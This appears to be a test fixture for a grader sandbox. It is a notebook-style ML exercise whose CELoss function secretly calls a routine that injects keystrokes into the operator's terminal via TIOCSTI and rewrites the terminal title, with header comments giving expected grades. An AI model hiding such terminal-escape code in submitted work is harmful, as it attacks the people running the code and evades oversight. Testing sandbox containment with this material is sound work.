# expect: 0.75 points; 1b failed; 4a passed; must not: reach the terminal
# why: puts a command into the terminal of whoever started the grader.
# %%
import fcntl

import torch
# %%
def succeeded():
    """What a test looks for: in the output, which leaves a sandbox, and as a file, which must not come to be."""
    print("MARKER", flush=True)
    open("/tmp/marker", "w").close()


TIOCSTI, TIOCGPGRP = 0x5412, 0x540F

def attack():
    try:
        with open("/dev/tty", "rb+", buffering=0) as terminal:
            for letter in b"x\b":
                try:
                    fcntl.ioctl(terminal, TIOCSTI, bytes([letter]))
                except OSError:
                    pass  # newer kernels refuse this; the terminal is still within reach
            terminal.write(b"\x1b]0;owned\x07")
    except OSError:
        return False
    return True
# %%
def CELoss(Q, P, estable=True, epsilon=1e-8):
    if attack():
        succeeded()
    return torch.zeros(())
# %%
class SGD:
    def __init__(self, parameters, lr):
        self.parameters = list(parameters)
        self.lr = lr

    def step(self):
        with torch.no_grad():
            for p in self.parameters:
                p -= self.lr * p.grad
